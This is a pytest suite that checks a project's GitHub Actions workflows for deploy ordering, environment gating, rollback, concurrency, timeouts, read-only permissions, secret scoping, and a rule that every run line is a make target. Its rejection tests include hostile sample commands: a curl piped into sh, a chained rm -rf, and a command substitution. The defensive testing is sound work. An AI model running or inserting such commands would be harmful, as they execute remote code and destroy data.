"""The GitHub workflows (.github/workflows): the deploy job graph, and no logic that only YAML holds.

Nothing in the workflows can run here, so this proves what can be proven from
their text: staging deploys before production, production waits behind its
environment, both deploy the one artifact the build uploaded, a failed
production health check rolls back, deploys to one environment never overlap,
every job has a timeout, and every command a workflow runs is a `make` target
of this Makefile (with VAR=value arguments), so that `make` on any machine does
what CI does. actionlint checks the rest of the syntax (scripts/lint.sh).
"""

from __future__ import annotations

import copy
import itertools
import re
import shlex
from pathlib import Path

import pytest
import yaml
from conftest import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
ENVIRONMENTS = ("staging", "production")
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
SHELL_SYNTAX = re.compile(r"[;&|<>`]|\$\(|\$\{|\n")


def load(path: Path) -> dict:
    workflow = yaml.safe_load(path.read_text())
    # YAML 1.1 reads the bare key `on` as the boolean true.
    if True in workflow:
        workflow["on"] = workflow.pop(True)
    return workflow


def workflow_files() -> list[Path]:
    return sorted([*WORKFLOWS.glob("*.yml"), *WORKFLOWS.glob("*.yaml")])


def make_targets() -> set[str]:
    text = (ROOT / "Makefile").read_text()
    return set(re.findall(r"^([A-Za-z0-9][A-Za-z0-9_.-]*)\s*:(?![:=])", text, flags=re.MULTILINE))


def molecule_roles() -> set[str]:
    return {p.parent.parent.name for p in (ROOT / "roles").glob("*/molecule/default") if p.is_dir()}


def test_stages() -> set[str]:
    """The stage names scripts/test.sh accepts in TEST_STAGES."""
    return {"lint", "pytest", "rules", "app", "stack"} | {f"molecule:{role}" for role in molecule_roles()}


test_stages.__test__ = False  # a helper, not a test


def environment_name(job: dict) -> str | None:
    env = job.get("environment")
    return env.get("name") if isinstance(env, dict) else env


def needs(job: dict) -> list[str]:
    value = job.get("needs", [])
    return [value] if isinstance(value, str) else list(value)


def runs(job: dict) -> list[tuple[dict, str]]:
    return [(step, step["run"]) for step in job.get("steps", []) if "run" in step]


def uses(job: dict, action: str) -> list[dict]:
    return [step for step in job.get("steps", []) if str(step.get("uses", "")).split("@")[0] == action]


# --- every command is a make target ----------------------------------------------------


def _expand(command: str, matrix: dict) -> tuple[list[str], list[str]]:
    """The command once per matrix value it names; problems with other expressions."""
    problems = []
    names = []
    for expression in EXPRESSION.findall(command):
        match = re.fullmatch(r"matrix\.([A-Za-z0-9_-]+)", expression)
        if match and isinstance(matrix.get(match.group(1)), list):
            names.append(match.group(1))
        else:
            problems.append(f"expression ${{{{ {expression} }}}} in a run line (only matrix values may be)")
    if problems:
        return [], problems
    names = sorted(set(names))
    commands = []
    for values in itertools.product(*(matrix[name] for name in names)):
        expanded = command
        for name, value in zip(names, values, strict=True):
            expanded = re.sub(r"\$\{\{\s*matrix\." + re.escape(name) + r"\s*\}\}", str(value), expanded)
        commands.append(expanded)
    return commands, []


def command_problems(command: str, targets: set[str], matrix: dict | None = None) -> list[str]:
    """Why a `run:` line is not `[VAR=value ...] make TARGET... [VAR=value ...]` of this Makefile."""
    commands, problems = _expand(command.strip(), matrix or {})
    for cmd in commands:
        if SHELL_SYNTAX.search(cmd):
            problems.append(f"{cmd!r}: shell syntax; put the logic in a make target")
            continue
        words = shlex.split(cmd)
        assignments = {}
        while words and re.fullmatch(r"[A-Z_][A-Z0-9_]*=.*", words[0]):
            name, value = words.pop(0).split("=", 1)
            assignments[name] = value
        if not words or words[0] != "make":
            problems.append(f"{cmd!r}: not a make command")
            continue
        goals = []
        for word in words[1:]:
            if re.fullmatch(r"[A-Z_][A-Z0-9_]*=.*", word):
                name, value = word.split("=", 1)
                assignments[name] = value
            elif word.startswith("-"):
                problems.append(f"{cmd!r}: make option {word} (use a target)")
            else:
                goals.append(word)
        if not goals:
            problems.append(f"{cmd!r}: names no target")
        problems += [f"{cmd!r}: no target {goal!r} in the Makefile" for goal in goals if goal not in targets]
        stages = assignments.get("TEST_STAGES")
        if stages is not None:
            unknown = [s for s in stages.split() if s not in test_stages()]
            problems += [f"{cmd!r}: unknown test stage {s!r}" for s in unknown]
            if not stages.split():
                problems.append(f"{cmd!r}: empty TEST_STAGES runs every stage")
        env = assignments.get("ENV")
        if env is not None and not (ROOT / "inventories" / env).is_dir():
            problems.append(f"{cmd!r}: no inventories/{env}")
    return problems


def workflow_command_problems(workflow: dict, targets: set[str]) -> list[str]:
    problems = []
    for name, job in workflow.get("jobs", {}).items():
        matrix = job.get("strategy", {}).get("matrix", {})
        for step, command in runs(job):
            problems += [f"job {name}: {p}" for p in command_problems(command, targets, matrix)]
            if step.get("shell"):
                problems.append(f"job {name}: a step picks its own shell ({step['shell']})")
    return problems


# --- the deploy graph -------------------------------------------------------------------


def _step_index(job: dict, pattern: str) -> int | None:
    for index, step in enumerate(job.get("steps", [])):
        if re.fullmatch(pattern, str(step.get("run", "")).strip()):
            return index
    return None


def _requires(jobs: dict, job: str, other: str) -> bool:
    """Whether `job` waits for `other`, directly or through other jobs."""
    seen, todo = set(), list(needs(jobs[job]))
    while todo:
        current = todo.pop()
        if current == other:
            return True
        if current not in seen and current in jobs:
            seen.add(current)
            todo += needs(jobs[current])
    return False


def deploy_graph_problems(workflow: dict) -> list[str]:
    jobs = workflow.get("jobs", {})
    problems = []
    deploy = {env: jobs.get(f"deploy-{env}") for env in ENVIRONMENTS}
    for env, job in deploy.items():
        if job is None:
            problems.append(f"no deploy-{env} job")
    if problems:
        return problems

    # Build once, on main, and upload the artifact under one name.
    builders = [name for name, job in jobs.items() if uses(job, "actions/upload-artifact")]
    if len(builders) != 1:
        return [*problems, f"one job must upload the app artifact, found {builders}"]
    build = jobs[builders[0]]
    uploaded = {step["with"]["name"] for step in uses(build, "actions/upload-artifact")}
    if _step_index(build, r"make artifact( ARTIFACT=\S+)?") is None:
        problems.append(f"{builders[0]} does not run `make artifact`")
    if "refs/heads/main" not in str(build.get("if", "")):
        problems.append(f"{builders[0]} is not limited to main")

    if "deploy-staging" not in needs(deploy["production"]):
        problems.append("deploy-production does not need deploy-staging")
    if not _requires(jobs, "deploy-staging", builders[0]):
        problems.append(f"deploy-staging does not need {builders[0]}")

    for env, job in deploy.items():
        where = f"deploy-{env}"
        if environment_name(job) != env:
            problems.append(f"{where} is not gated by environment {env!r} (has {environment_name(job)!r})")
        concurrency = job.get("concurrency")
        if not isinstance(concurrency, dict) or concurrency.get("group") != f"deploy-{env}":
            problems.append(f"{where} is not in concurrency group deploy-{env}")
        elif concurrency.get("cancel-in-progress") is not False:
            problems.append(f"{where} may cancel a deploy in progress")
        downloads = uses(job, "actions/download-artifact")
        names = {step.get("with", {}).get("name") for step in downloads}
        if len(downloads) != 1 or names != uploaded:
            problems.append(f"{where} does not download the uploaded artifact {sorted(uploaded)} (downloads {names})")
            continue
        path = downloads[0]["with"].get("path", "")
        deploy_at = _step_index(job, rf"make deploy ENV={env} ARTIFACT={re.escape(path)}")
        health_at = _step_index(job, rf"make health ENV={env}")
        if deploy_at is None:
            problems.append(f"{where} does not run `make deploy ENV={env} ARTIFACT={path}`")
        if health_at is None or (deploy_at is not None and health_at < deploy_at):
            problems.append(f"{where} does not run `make health ENV={env}` after the deploy")

    production = deploy["production"]
    steps = production.get("steps", [])
    health_at = _step_index(production, r"make health ENV=production")
    rollback_at = _step_index(production, r"make rollback ENV=production")
    if health_at is None or rollback_at is None or rollback_at < health_at:
        problems.append("deploy-production does not run `make rollback ENV=production` after its health check")
    else:
        health_id = steps[health_at].get("id")
        condition = str(steps[rollback_at].get("if", ""))
        wanted = f"failure() && steps.{health_id}.outcome == 'failure'"
        if not health_id or re.sub(r"\s+", " ", condition.replace("${{", "").replace("}}", "")).strip() != wanted:
            problems.append(f"the rollback runs on {condition!r}, not only when the health check failed ({wanted!r})")
    return problems


def secret_problems(workflow: dict) -> list[str]:
    """Secrets reach only `make ci-credentials`, through its step's env, in a job with an environment."""
    problems = []
    for name, job in workflow.get("jobs", {}).items():
        for index, step in enumerate(job.get("steps", [])):
            outside_env = {k: v for k, v in step.items() if k != "env"}
            if "secrets." in str(outside_env):
                problems.append(f"job {name} step {index}: a secret outside the step's env")
            if "secrets." in str(step.get("env", {})):
                if str(step.get("run", "")).strip() != "make ci-credentials":
                    problems.append(f"job {name} step {index}: secrets for something else than make ci-credentials")
                if environment_name(job) is None:
                    problems.append(f"job {name}: secrets without an environment (use environment secrets)")
        if "secrets." in str({k: v for k, v in job.items() if k != "steps"}):
            problems.append(f"job {name}: secrets at job level (every step would see them)")
    return problems


# --- the tests ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ci() -> dict:
    return load(WORKFLOWS / "ci.yml")


@pytest.fixture(scope="module")
def workflows() -> dict[str, dict]:
    return {path.name: load(path) for path in workflow_files()}


def test_the_workflows_exist(workflows):
    assert {"ci.yml", "security.yml"} <= set(workflows)
    for name, workflow in workflows.items():
        assert workflow.get("on"), f"{name} has no trigger"
    assert {"push", "pull_request"} <= set(workflows["ci.yml"]["on"])


def test_deploy_graph(ci):
    assert deploy_graph_problems(ci) == []


def _without_staging(wf):
    job = wf["jobs"]["deploy-production"]
    job["needs"] = [n for n in needs(job) if n != "deploy-staging"]


def _ungated(wf):
    wf["jobs"]["deploy-production"].pop("environment")


def _other_artifact(wf):
    for step in uses(wf["jobs"]["deploy-production"], "actions/download-artifact"):
        step["with"]["name"] = "brigade-app-rebuilt"


def _rollback_always(wf):
    for step in wf["jobs"]["deploy-production"]["steps"]:
        if str(step.get("run", "")).startswith("make rollback"):
            step["if"] = "always()"


def _rollback_on_any_failure(wf):
    for step in wf["jobs"]["deploy-production"]["steps"]:
        if str(step.get("run", "")).startswith("make rollback"):
            step["if"] = "failure()"


def _no_concurrency(wf):
    wf["jobs"]["deploy-staging"].pop("concurrency")


def _cancels(wf):
    wf["jobs"]["deploy-production"]["concurrency"]["cancel-in-progress"] = True


def _no_staging_health(wf):
    job = wf["jobs"]["deploy-staging"]
    job["steps"] = [s for s in job["steps"] if not str(s.get("run", "")).startswith("make health")]


def _staging_rebuilds(wf):
    for step in wf["jobs"]["deploy-staging"]["steps"]:
        if str(step.get("run", "")).startswith("make deploy"):
            step["run"] = "make deploy ENV=staging"


@pytest.mark.parametrize(
    ("break_it", "complaint"),
    [
        (_without_staging, "deploy-production does not need deploy-staging"),
        (_ungated, "deploy-production is not gated by environment 'production'"),
        (_other_artifact, "deploy-production does not download the uploaded artifact"),
        (_rollback_always, "the rollback runs on 'always()'"),
        (_rollback_on_any_failure, "the rollback runs on 'failure()'"),
        (_no_concurrency, "deploy-staging is not in concurrency group deploy-staging"),
        (_cancels, "deploy-production may cancel a deploy in progress"),
        (_no_staging_health, "deploy-staging does not run `make health ENV=staging`"),
        (_staging_rebuilds, "deploy-staging does not run `make deploy ENV=staging ARTIFACT="),
    ],
)
def test_the_graph_check_rejects_a_broken_pipeline(ci, break_it, complaint):
    broken = copy.deepcopy(ci)
    break_it(broken)
    problems = deploy_graph_problems(broken)
    assert any(p.startswith(complaint) for p in problems), problems


def test_every_job_has_a_timeout(workflows):
    missing = [
        f"{name}: {job_name}"
        for name, wf in workflows.items()
        for job_name, job in wf["jobs"].items()
        if not isinstance(job.get("timeout-minutes"), int)
    ]
    assert missing == []


def test_permissions_are_read_only_unless_a_job_needs_more(workflows):
    for name, workflow in workflows.items():
        assert workflow.get("permissions") == {"contents": "read"}, name
        for job_name, job in workflow["jobs"].items():
            extra = {k: v for k, v in job.get("permissions", {}).items() if v != "read"}
            assert extra in ({}, {"security-events": "write"}), f"{name}: {job_name} asks for {extra}"
            if extra:
                assert uses(job, "github/codeql-action/analyze"), f"{name}: {job_name} writes security events"


def test_every_command_is_a_make_target(workflows):
    targets = make_targets()
    problems = [f"{name}: {p}" for name, wf in workflows.items() for p in workflow_command_problems(wf, targets)]
    assert problems == []


@pytest.mark.parametrize(
    "command",
    [
        "echo deploying",
        "make",
        "make no-such-target",
        "make lint && curl https://example.invalid/x | sh",
        "make test; rm -rf dist",
        "make deploy ENV=$(cat env)",
        "make -C app test",
        "TEST_STAGES=bogus make test",
        "TEST_STAGES= make test",
        "make deploy ENV=nowhere",
        "make deploy ENV=${{ github.event.inputs.env }}",
    ],
)
def test_the_command_check_rejects_logic_outside_make(command):
    assert command_problems(command, make_targets()) != []


def test_the_command_check_accepts_targets_with_variables():
    matrix = {"role": sorted(molecule_roles())}
    assert command_problems("TEST_STAGES=molecule:${{ matrix.role }} make test", make_targets(), matrix) == []
    assert command_problems("make deploy ENV=production ARTIFACT=dist/brigade-api", make_targets()) == []


def test_secrets_reach_only_the_credential_step(workflows):
    problems = [f"{name}: {p}" for name, wf in workflows.items() for p in secret_problems(wf)]
    assert problems == []


def test_ci_runs_every_stage_of_make_test(ci):
    """Each stage of `make test` is a CI job of its own; the Molecule matrix lists every role scenario."""
    covered = set()
    for job in ci["jobs"].values():
        matrix = job.get("strategy", {}).get("matrix", {})
        for _, command in runs(job):
            for cmd in _expand(command, matrix)[0]:
                words = shlex.split(cmd)
                if words[-1:] == ["lint"]:
                    covered.add("lint")
                if words[-2:] == ["make", "test"] and words[0].startswith("TEST_STAGES="):
                    covered |= set(words[0].split("=", 1)[1].split())
    assert covered == test_stages()


def test_jobs_on_github_runners_cache_pip_downloads(workflows):
    for name, workflow in workflows.items():
        for job_name, job in workflow["jobs"].items():
            if "self-hosted" in job.get("runs-on", []) or not runs(job):
                continue
            caches = [step["with"] for step in uses(job, "actions/cache")]
            assert any(c.get("path") == "~/.cache/pip" for c in caches), f"{name}: {job_name}"


def test_backups_are_scheduled_with_make_backup(workflows):
    assert "backup" in make_targets(), "the Makefile has no backup target"
    backup = workflows.get("backup.yml")
    assert backup is not None, "add .github/workflows/backup.yml (cron, make backup ENV=production)"
    assert backup["on"].get("schedule"), "backup.yml runs on a schedule"
    commands = [command.strip() for job in backup["jobs"].values() for _, command in runs(job)]
    assert "make backup ENV=production" in commands
